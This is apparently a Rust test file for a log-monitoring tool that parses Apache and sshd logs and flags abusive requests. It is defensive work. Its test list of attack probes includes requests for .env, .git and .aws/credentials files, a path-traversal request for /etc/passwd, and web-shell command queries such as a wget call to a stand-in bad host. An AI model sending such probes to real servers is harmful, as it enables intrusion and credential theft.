use guard::parse_logs::Log;
use guard::{is_bad_apache, is_bad_ssh, parse_apache, parse_ssh};

#[test]
fn test_parse_apache() {
    let cases = vec![
        (
            r#"123.45.67.89 - - [24/Oct/2025:09:00:16 +0000] "GET / HTTP/1.1" 301 574 "-" "Mozilla/5.0""#,
            Log::Apache { ip: b"123.45.67.89".to_vec(), path: b"/".to_vec() },
        ),
        (
            r#"98.76.54.32 - - [24/Oct/2025:09:20:49 +0000] "GET /e.php HTTP/1.1" 403 439 "-" "curl/8.14.1""#,
            Log::Apache { ip: b"98.76.54.32".to_vec(), path: b"/e.php".to_vec() },
        ),
        (
            r#"111.222.333.44 - - [24/Oct/2025:10:17:16 +0000] "\x16\x03\x01" 400 483 "-" "-""#,
            Log::Apache { ip: b"111.222.333.44".to_vec(), path: b"<malformed>".to_vec() },
        ),
        (
            r#"55.66.77.88 - - [24/Oct/2025:10:17:34 +0000] "-" 408 0 "-" "-""#,
            Log::Apache { ip: b"55.66.77.88".to_vec(), path: b"<malformed>".to_vec() },
        ),
        (
            r#"123.123.123.123 - - [24/Oct/2025:10:09:35 +0000] "CONNECT api.my-ip.io:443 HTTP/1.1" 301 518 "-" "Go-http-client/1.1""#,
            Log::Apache { ip: b"123.123.123.123".to_vec(), path: b"api.my-ip.io:443".to_vec() },
        ),
        (
            r#"123.123.123.123 - - [25/Oct/2025:00:29:11 +0000] "GET /mail/.env.db HTTP/1.1" 301 536 "-" "Opera/8.02 (Windows NT 5.1; U; ru)""#,
            Log::Apache { ip: b"123.123.123.123".to_vec(), path: b"/mail/.env.db".to_vec() },
        ),
        (
            r#"123.123.123.123 - - [25/Oct/2025:11:10:28 +0000] "GET /db/phpmyadmin/index.php?lang=en HTTP/1.1" 301 574 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36""#,
            Log::Apache {
                ip: b"123.123.123.123".to_vec(),
                path: b"/db/phpmyadmin/index.php?lang=en".to_vec(),
            },
        ),
    ];

    for (line, expected) in cases {
        let parsed = parse_apache(line).unwrap_or_else(|| panic!("Failed to parse line: {}", line));
        assert_eq!(parsed, expected, "Line that failed: {}", line);
    }
}

#[test]
fn test_bad_paths() {
    let bad_paths = [
        "/.env",
        "/.env.bak",
        "/beep/.env.bak",
        "/.config",
        "/config.json",
        "/test.php",
        "/test.php0",
        "/cgi-bin/ls",
        "/wp-admin/install.php",
        "/solr/select?q=*",
        "/.git/config",
        "/.git",
        "/shell?cmd=wget http://bad-domain.com",
        "/query?q=SELECT+*+FROM+users",
        "/service/api-docs",
        "/mail/.env.db",
        "/db/phpmyadmin/index.php?lang=en",
        "/?XDEBUG_SESSION_START=phpstorm",
        "/actuator/gateway/routes",
        "/console/",
        "/geoserver/wms",
        "/_ignition/health",
        "/.env.local",
        "/.env.old",
        "/.env.save",
        "/backup/.env",
        "/config/.env.production",
        "/.gitignore",
        "/.git/config.bak",
        "/wp-login.php",
        "/wp-content/plugins/akismet/readme.txt",
        "/wordpress/wp-admin/",
        "/drupal/install.php",
        "/joomla/configuration.php",
        "/phpinfo.php",
        "/index.php?view=../../../../etc/passwd",
        "/uploads/shell.jsp",
        "/cgi-bin/test.cgi",
        "/_profiler/phpinfo",
        "/geoserver/web/",
        "/goform/formLogin",
        "/console/login.action",
        "/actuator/env",
        "/service/api-docs/swagger.json",
        "/query?cmd=id",
        "/shell?exec=ls",
        "/wp-content/uploads/.env",
        "/solr/admin/info/system",
        "/phpmyadmin/",
        "/vendor/.env",
        "/storage/.env.example",
        "/.aws/config",
        "/.aws/credentials",
        "/.docker/config.json",
        "/.envrc",
        "/.envs",
        "/.local",
        "/.production",
        "/.remote",
        "/.ssh/sftp-config.json",
        "/.vscode/settings.json",
        "/.vscode/sftp.json",
        "/prevlaravel/sftp-config.json",
        "/private/config.json",
        "/private/env.json",
        "/sftp-config.json",
        "/sftp.json",
        "/src/config/config.json",
        "/src/config/environment.json",
        "/src/settings.json",
        "/tsconfig.app.json",
        "/tsconfig.json",
        "/tsconfig.spec.json",
    ];
    for p in bad_paths {
        assert!(is_bad_apache(p), "Should match {p}");
    }
}

#[test]
fn test_bad_paths_negative() {
    let good_paths = [
        "/static/css/main.css",
        "/images/logo.png",
        "/api/v1/users?id=2",
        "/search?q=php",
        "/foo.phpbiba",
    ];
    for p in good_paths {
        assert!(!is_bad_apache(p), "Should not match {p}");
    }
}

#[test]
fn classifier_literal_cases() {
    // The request target of "GET /.env HTTP/1.1" is abusive; an ordinary
    // page is not; a query that merely mentions a suspicious word is not.
    let env_line = r#"1.2.3.4 - - [24/Oct/2025:09:00:16 +0000] "GET /.env HTTP/1.1" 404 0 "-" "x""#;
    match parse_apache(env_line) {
        Some(Log::Apache { ip, path }) => {
            assert_eq!(ip, b"1.2.3.4".to_vec());
            assert_eq!(path, b"/.env".to_vec());
            assert!(is_bad_apache(std::str::from_utf8(&path).unwrap()));
        }
        other => panic!("unexpected parse: {:?}", other),
    }
    let ok_line =
        r#"1.2.3.4 - - [24/Oct/2025:09:00:16 +0000] "GET /index.html HTTP/1.1" 200 5 "-" "x""#;
    match parse_apache(ok_line) {
        Some(Log::Apache { path, .. }) => {
            assert_eq!(path, b"/index.html".to_vec());
            assert!(!is_bad_apache("/index.html"));
        }
        other => panic!("unexpected parse: {:?}", other),
    }
    assert!(!is_bad_apache("/search?q=php"));
}

#[test]
fn auth_literal_case() {
    let line = "Oct 24 10:00:00 host sshd[123]: Failed password for invalid user admin from 10.0.0.5 port 51515 ssh2";
    match parse_ssh(line) {
        Some(Log::Ssh { ip, msg }) => {
            assert_eq!(ip, b"10.0.0.5".to_vec());
            assert_eq!(msg, b"Failed password".to_vec());
            assert!(is_bad_ssh(std::str::from_utf8(&msg).unwrap()));
        }
        other => panic!("unexpected parse: {:?}", other),
    }
}

#[test]
fn auth_non_events() {
    // Not a daemon line at all.
    assert_eq!(parse_ssh("Failed password for root from 1.1.1.1 port 2"), None);
    // A daemon line with no abuse signal parses to no event.
    assert_eq!(
        parse_ssh("Oct 24 10:00:00 host sshd[123]: Connection closed by 9.8.7.6 port 5"),
        None
    );
    // A signal without the address token parses to no event.
    assert_eq!(parse_ssh("host sshd[1]: Failed password"), None);
    let inv = parse_ssh("Oct 24 sshd[9]: Invalid user oracle from 5.6.7.8 port 40000");
    assert_eq!(
        inv,
        Some(Log::Ssh { ip: b"5.6.7.8".to_vec(), msg: b"Invalid user".to_vec() })
    );
}

#[test]
fn apache_parse_failure_is_distinct() {
    // A line with no leading token is a true parse failure, unlike the
    // degraded malformed form.
    assert_eq!(parse_apache(""), None);
    assert_eq!(parse_apache("   "), None);
    assert_eq!(
        parse_apache("junk"),
        Some(Log::Apache { ip: b"junk".to_vec(), path: b"<malformed>".to_vec() })
    );
}
